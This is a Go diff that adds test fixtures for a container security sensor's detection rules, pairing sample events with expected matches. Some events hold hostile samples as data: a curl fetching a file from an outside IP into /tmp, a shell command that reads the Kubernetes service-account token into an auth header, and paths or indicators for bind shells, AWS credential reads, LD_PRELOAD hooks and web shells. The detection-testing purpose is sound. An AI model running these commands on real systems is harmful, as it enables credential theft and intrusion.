@@ -0,0 +1,433 @@
+package detection
+
+import "github.com/invisible-tech/autopilot-security-sensor/internal/types"
+
+// Fixture is a sample event and whether a rule is expected to match it.
+// Fixtures are exercised by the package tests and counted in the rules
+// coverage report, so every rule should have at least one positive and one
+// negative fixture.
+type Fixture struct {
+	RuleID string
+	Name   string
+	Event  *types.SecurityEvent
+	Match  bool
+}
+
+// Fixtures returns the fixture set for the default rules.
+func Fixtures() []Fixture {
+	return []Fixture{
+		{
+			RuleID: "APSS-001", Name: "external connection to 4444", Match: true,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "1.2.3.4", DstPort: 4444, IsExternal: true}},
+		},
+		{
+			RuleID: "APSS-001", Name: "internal connection to 4444", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "10.0.0.5", DstPort: 4444}},
+		},
+		{
+			RuleID: "APSS-002", Name: "cryptominer indicator", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "xmrig", SuspiciousIndicators: []string{"possible_cryptominer"}}},
+		},
+		{
+			RuleID: "APSS-002", Name: "plain process", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "nginx"}},
+		},
+		{
+			RuleID: "APSS-003", Name: "/etc/shadow modified", Match: true,
+			Event: &types.SecurityEvent{File: &types.FileEventData{Path: "/etc/shadow", Operation: "modify"}},
+		},
+		{
+			RuleID: "APSS-003", Name: "non-critical file modified", Match: false,
+			Event: &types.SecurityEvent{File: &types.FileEventData{Path: "/tmp/x", Operation: "modify"}},
+		},
+		{
+			RuleID: "APSS-004", Name: "shell spawn indicator", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "bash", SuspiciousIndicators: []string{"shell_spawn"}}},
+		},
+		{
+			RuleID: "APSS-004", Name: "non-shell process", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "python"}},
+		},
+		{
+			RuleID: "APSS-005", Name: "external postgres", Match: true,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "8.8.8.8", DstPort: 5432, IsExternal: true}},
+		},
+		{
+			RuleID: "APSS-005", Name: "in-cluster postgres", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "10.0.0.7", DstPort: 5432}},
+		},
+		{
+			RuleID: "APSS-007", Name: "/tmp grew by 2GiB", Match: true,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{
+				AnomalyType: "disk_growth", Path: "/tmp", DiskWriteBytes: 2 << 30,
+				TopPaths: []types.PathUsage{{Path: "/tmp/.cache", GrowthBytes: 2 << 30, GrowthFiles: 1}},
+			}},
+		},
+		{
+			RuleID: "APSS-007", Name: "memory anomaly", Match: false,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{AnomalyType: "memory_spike"}},
+		},
+		{
+			RuleID: "APSS-008", Name: "process at 95% of fd limit", Match: true,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{
+				AnomalyType: "fd_exhaustion", PID: 42, ProcessName: "java", OpenFDs: 973, FDLimit: 1024,
+			}},
+		},
+		{
+			RuleID: "APSS-008", Name: "/tmp out of inodes", Match: true,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{
+				AnomalyType: "inode_exhaustion", Path: "/tmp", InodesUsed: 95, InodesTotal: 100,
+			}},
+		},
+		{
+			RuleID: "APSS-008", Name: "disk growth", Match: false,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{AnomalyType: "disk_growth"}},
+		},
+		{
+			RuleID: "APSS-009", Name: "privileged pod rejected at admission", Match: true,
+			Event: &types.SecurityEvent{Audit: &types.AuditEventData{
+				Verb: "create", Resource: "pods", Name: "web", Namespace: "prod", User: "alice",
+				PolicyViolations: []string{`posture policy: container "app" is privileged`},
+			}},
+		},
+		{
+			RuleID: "APSS-009", Name: "compliant admission", Match: false,
+			Event: &types.SecurityEvent{Audit: &types.AuditEventData{Verb: "create", Resource: "pods", Name: "web"}},
+		},
+		{
+			RuleID: "APSS-010", Name: "sshd_config edited with mtime restored", Match: true,
+			Event: &types.SecurityEvent{File: &types.FileEventData{
+				Path: "/etc/ssh/sshd_config", Operation: "chmod", OldHash: "a", NewHash: "b", Indicators: []string{"timestomp"},
+			}},
+		},
+		{
+			RuleID: "APSS-010", Name: "ordinary edit", Match: false,
+			Event: &types.SecurityEvent{File: &types.FileEventData{Path: "/etc/hosts", Operation: "modify", OldHash: "a", NewHash: "b"}},
+		},
+		{
+			RuleID: "APSS-011", Name: "connection to blocklisted C2 address", Match: true,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				DstIP: "198.51.100.7", DstPort: 443, IsExternal: true,
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeIP, Indicator: "198.51.100.7", Feed: "https://feodotracker.abuse.ch/downloads/ipblocklist.txt"},
+			}},
+		},
+		{
+			RuleID: "APSS-011", Name: "unlisted address", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "8.8.8.8", DstPort: 443, IsExternal: true}},
+		},
+		{
+			RuleID: "APSS-011", Name: "Tor relay is not a blocklist match", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				DstIP: "192.0.2.10", DstPort: 9001, IsExternal: true,
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeIP, Indicator: "192.0.2.10", Feed: "https://tor.example/guards.txt", Category: types.IOCCategoryTor},
+			}},
+		},
+		{
+			RuleID: "APSS-012", Name: "lookup of blocklisted domain", Match: true,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				Domain:     "cdn.evil.example",
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeDomain, Indicator: "evil.example", Feed: "https://urlhaus.abuse.ch/downloads/hostfile/"},
+			}},
+		},
+		{
+			RuleID: "APSS-012", Name: "address match is not a domain match", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				DstIP:      "198.51.100.7",
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeIP, Indicator: "198.51.100.7"},
+			}},
+		},
+		{
+			RuleID: "APSS-015", Name: "process with extracted executable hash", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "kworker", ExeHash: "9f86d081884c7d65",
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeHash, Indicator: "9f86d081884c7d65", Feed: "apss:extracted"},
+			}},
+		},
+		{
+			RuleID: "APSS-015", Name: "file written with extracted hash", Match: true,
+			Event: &types.SecurityEvent{File: &types.FileEventData{
+				Path: "/tmp/kworker", Operation: "create", NewHash: "9f86d081884c7d65",
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeHash, Indicator: "9f86d081884c7d65", Feed: "apss:extracted"},
+			}},
+		},
+		{
+			RuleID: "APSS-015", Name: "unlisted executable", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "nginx", ExeHash: "2c26b46b68ffc68f"}},
+		},
+		{
+			RuleID: "APSS-016", Name: "shell spawned by java", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "sh", Cmdline: []string{"sh", "-c", "id"},
+				Ancestors: []types.ProcessAncestor{{PID: 7, Name: "java", Cmdline: []string{"java", "-jar", "app.jar"}}, {PID: 1, Name: "tini"}},
+			}},
+		},
+		{
+			RuleID: "APSS-016", Name: "shell spawned by php-fpm worker", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name:      "bash",
+				Ancestors: []types.ProcessAncestor{{PID: 9, Name: "php-fpm8.2"}, {PID: 1, Name: "php-fpm8.2"}},
+			}},
+		},
+		{
+			RuleID: "APSS-016", Name: "entrypoint shell starting the server", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "sh", Cmdline: []string{"sh", "/entrypoint.sh"},
+				Ancestors: []types.ProcessAncestor{{PID: 1, Name: "tini"}},
+			}},
+		},
+		{
+			RuleID: "APSS-017", Name: "curl run through a shell by nginx", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "curl", Cmdline: []string{"curl", "-o", "/tmp/x", "http://203.0.113.9/x"},
+				Ancestors: []types.ProcessAncestor{{PID: 31, Name: "sh"}, {PID: 12, Name: "nginx"}, {PID: 1, Name: "nginx"}},
+			}},
+		},
+		{
+			RuleID: "APSS-017", Name: "curl from a health check script", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name:      "curl",
+				Ancestors: []types.ProcessAncestor{{PID: 40, Name: "sh"}, {PID: 0, Name: "runc:[2:INIT]"}},
+			}},
+		},
+		{
+			RuleID: "APSS-018", Name: "process from a denylisted binary", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "kworkerd", ExeHash: "2222222222222222222222222222222222222222222222222222222222222222",
+				SuspiciousIndicators: []string{"denylisted_hash"},
+			}},
+		},
+		{
+			RuleID: "APSS-018", Name: "process with only a hash", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "nginx", ExeHash: "1111111111111111111111111111111111111111111111111111111111111111",
+			}},
+		},
+		{
+			RuleID: "APSS-019", Name: "process run from a memfd", Match: true,
+			Event: &types.SecurityEvent{
+				Process: &types.ProcessEventData{
+					Name: "3", ExePath: "/memfd:3 (deleted)", SuspiciousIndicators: []string{"fileless_execution"},
+				},
+				Metadata: map[string]interface{}{"fileless_reason": "memfd"},
+			},
+		},
+		{
+			RuleID: "APSS-019", Name: "process run from /usr/bin", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "python3", ExePath: "/usr/bin/python3"}},
+		},
+		{
+			RuleID: "APSS-020", Name: "LD_PRELOAD from /tmp", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "sshd", SuspiciousIndicators: []string{"ld_preload"},
+				Environment: map[string]string{"LD_PRELOAD": "/tmp/.x/libhook.so"},
+			}},
+		},
+		{
+			RuleID: "APSS-020", Name: "history disabled only", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "bash", SuspiciousIndicators: []string{"history_disabled"}}},
+		},
+		{
+			RuleID: "APSS-021", Name: "HISTFILE=/dev/null", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "bash", SuspiciousIndicators: []string{"history_disabled"},
+				Environment: map[string]string{"HISTFILE": "/dev/null"},
+			}},
+		},
+		{
+			RuleID: "APSS-021", Name: "plain shell", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "bash"}},
+		},
+		{
+			RuleID: "APSS-022", Name: "AWS key in environment", Match: true,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{
+				Name: "app", SuspiciousIndicators: []string{"credentials_in_env"},
+				Environment: map[string]string{"AWS_ACCESS_KEY_ID": "sha256:0f1e2d"},
+			}},
+		},
+		{
+			RuleID: "APSS-022", Name: "LD_PRELOAD only", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "app", SuspiciousIndicators: []string{"ld_preload"}}},
+		},
+		{
+			RuleID: "APSS-023", Name: "renamed miner at 390% CPU", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "resource_anomaly",
+				Process:  &types.ProcessEventData{Name: "kworker", CPUPercent: 390, SuspiciousIndicators: []string{"sustained_high_cpu"}},
+				Resource: &types.ResourceEventData{AnomalyType: "sustained_cpu", CPUPercent: 390},
+			},
+		},
+		{
+			RuleID: "APSS-023", Name: "busy process without the indicator", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "java", CPUPercent: 95}},
+		},
+		{
+			RuleID: "APSS-024", Name: "miner holding /dev/nvidia0", Match: true,
+			Event: &types.SecurityEvent{
+				Type:    "resource_anomaly",
+				Process: &types.ProcessEventData{Name: "xmrig", SuspiciousIndicators: []string{"gpu_device_access"}},
+			},
+		},
+		{
+			RuleID: "APSS-024", Name: "allowed GPU process", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "python"}},
+		},
+		{
+			RuleID: "APSS-025", Name: "nvidia-smi run in a web pod", Match: true,
+			Event: &types.SecurityEvent{
+				Type:    "resource_anomaly",
+				Process: &types.ProcessEventData{Name: "nvidia-smi", SuspiciousIndicators: []string{"nvidia_smi"}},
+			},
+		},
+		{
+			RuleID: "APSS-025", Name: "other GPU indicator", Match: false,
+			Event: &types.SecurityEvent{Process: &types.ProcessEventData{Name: "xmrig", SuspiciousIndicators: []string{"gpu_device_access"}}},
+		},
+		{
+			RuleID: "APSS-026", Name: "GPU busy under a web pod", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "resource_anomaly",
+				Resource: &types.ResourceEventData{AnomalyType: "gpu_utilization", AnomalyScore: 0.97},
+			},
+		},
+		{
+			RuleID: "APSS-026", Name: "CPU anomaly", Match: false,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{AnomalyType: "sustained_cpu"}},
+		},
+		{
+			RuleID: "APSS-027", Name: "bind shell on 4444 after warm-up", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "network_listen",
+				Network:  &types.NetworkEventData{Protocol: "tcp", SrcIP: "0.0.0.0", SrcPort: 4444, State: "LISTEN"},
+				Metadata: map[string]interface{}{"listen_baseline": "new_listener"},
+			},
+		},
+		{
+			RuleID: "APSS-027", Name: "listener without baseline mode", Match: false,
+			Event: &types.SecurityEvent{
+				Type:    "network_listen",
+				Network: &types.NetworkEventData{Protocol: "tcp6", SrcIP: "::", SrcPort: 8080, State: "LISTEN"},
+			},
+		},
+		{
+			RuleID: "APSS-028", Name: "spam bot connecting to port 25", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "network_connect",
+				Network:  &types.NetworkEventData{DstIP: "203.0.113.25", DstPort: 25, State: "SYN_SENT", IsExternal: true},
+				Metadata: map[string]interface{}{"outbound_protocol": "smtp"},
+			},
+		},
+		{
+			RuleID: "APSS-028", Name: "HTTPS connection", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{DstIP: "203.0.113.25", DstPort: 443, IsExternal: true}},
+		},
+		{
+			RuleID: "APSS-029", Name: "bot joining IRC C2", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "network_connect",
+				Network:  &types.NetworkEventData{DstIP: "198.51.100.66", DstPort: 6667, State: "ESTABLISHED", IsExternal: true},
+				Metadata: map[string]interface{}{"outbound_protocol": "irc"},
+			},
+		},
+		{
+			RuleID: "APSS-029", Name: "mail is not IRC", Match: false,
+			Event: &types.SecurityEvent{
+				Network:  &types.NetworkEventData{DstIP: "203.0.113.25", DstPort: 587, IsExternal: true},
+				Metadata: map[string]interface{}{"outbound_protocol": "smtp"},
+			},
+		},
+		{
+			RuleID: "APSS-030", Name: "connection to a Tor guard", Match: true,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				DstIP: "192.0.2.10", DstPort: 9001, IsExternal: true,
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeIP, Indicator: "192.0.2.10", Feed: "https://tor.example/guards.txt", Category: types.IOCCategoryTor},
+			}},
+		},
+		{
+			RuleID: "APSS-030", Name: "blocklist match", Match: false,
+			Event: &types.SecurityEvent{Network: &types.NetworkEventData{
+				DstIP:      "198.51.100.7",
+				MatchedIOC: &types.IOCMatch{Type: types.IOCTypeIP, Indicator: "198.51.100.7", Feed: "https://feodotracker.abuse.ch/downloads/ipblocklist.txt"},
+			}},
+		},
+		{
+			RuleID: "APSS-031", Name: "scan of 40 external hosts", Match: true,
+			Event: &types.SecurityEvent{
+				Type:     "resource_anomaly",
+				Resource: &types.ResourceEventData{AnomalyType: "connection_fanout", AnomalyScore: 4},
+				Metadata: map[string]interface{}{"new_connections": "40", "distinct_destinations": "40"},
+			},
+		},
+		{
+			RuleID: "APSS-031", Name: "disk growth anomaly", Match: false,
+			Event: &types.SecurityEvent{Resource: &types.ResourceEventData{AnomalyType: "disk_growth"}},
+		},
+		{
+			RuleID: "APSS-033", Name: "chmod u+s on a copied shell", Match: true,
+			Event: &types.SecurityEvent{File: &types.FileEventData{
+				Path: "/usr/local/bin/bash", Operation: "chmod", Mode: "4755", OldMode: "0755", Indicators: []string{"setuid"},
+			}},
+		},
+		{
+			RuleID: "APSS-033", Name: "chmod without new access", Match: false,
+			Event: &types.SecurityEvent{File: &types.FileEventData{Path: "/etc/app.conf", Operation: "chmod", Mode: "0600", OldMode: "0644"}},
+		},
+		{
+			RuleID: "APSS-034", Name: "ELF binary written to /dev/shm", Match: true,
+			Event: &types.SecurityEvent{
+				Type: "file_create",
+				File: &types.FileEventData{
+					Path: "/dev/shm/.x", Operation: "create", NewHash: "9f2c", Mode: "0755", Indicators: []string{"dropped_executable", "elf"},
+				},
+				Metadata: map[string]interface{}{"detected_by": "dropper", "file_type": "elf"},
+			},
+		},
+		{
+			RuleID: "APSS-034", Name: "script created in a watched path", Match: false,
+			Event: &types.SecurityEvent{Type: "file_create", File: &types.FileEventData{Path: "/app/run.sh", Operation: "create", NewHash: "a"}},
+		},
+		{
+			RuleID: "APSS-035", Name: "web shell written to the document root", Match: true,
+			Event: &types.SecurityEvent{
+				Type: "file_modify",
+				File: &types.FileEventData{
+					Path: "/var/www/html/upload.php", Operation: "modify", NewHash: "c0de", Indicators: []string{"yara_match"}, YaraRules: []string{"php_webshell"},
+				},
+			},
+		},
+		{
+			RuleID: "APSS-035", Name: "changed file without YARA matches", Match: false,
+			Event: &types.SecurityEvent{Type: "file_modify", File: &types.FileEventData{Path: "/var/www/html/index.php", Operation: "modify", NewHash: "b"}},
+		},
+		{
+			RuleID: "APSS-036", Name: "shell reads the service account token", Match: true,
+			Event: &types.SecurityEvent{
+				Type: "process_start",
+				Process: &types.ProcessEventData{
+					PID: 812, Name: "sh", Cmdline: []string{"sh", "-c", "curl -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default/api"},
+					SuspiciousIndicators: []string{"credential_access"},
+				},
+				Metadata: map[string]interface{}{"credential_paths": "/var/run/secrets/kubernetes.io/serviceaccount/token"},
+			},
+		},
+		{
+			RuleID: "APSS-036", Name: "process holds AWS credentials open", Match: true,
+			Event: &types.SecurityEvent{
+				Type: "file_access",
+				File: &types.FileEventData{Path: "/root/.aws/credentials", Operation: "open", PID: 90, ProcessName: "python3", Indicators: []string{"credential_access"}},
+			},
+		},
+		{
+			RuleID: "APSS-036", Name: "ordinary file change", Match: false,
+			Event: &types.SecurityEvent{Type: "file_modify", File: &types.FileEventData{Path: "/etc/app.conf", Operation: "modify", NewHash: "b"}},
+		},
+	}
+}
+
+// FixtureCounts returns the number of fixtures per rule ID.
+func FixtureCounts() map[string]int {
+	counts := make(map[string]int)
+	for _, f := range Fixtures() {
+		counts[f.RuleID]++
+	}
+	return counts
+}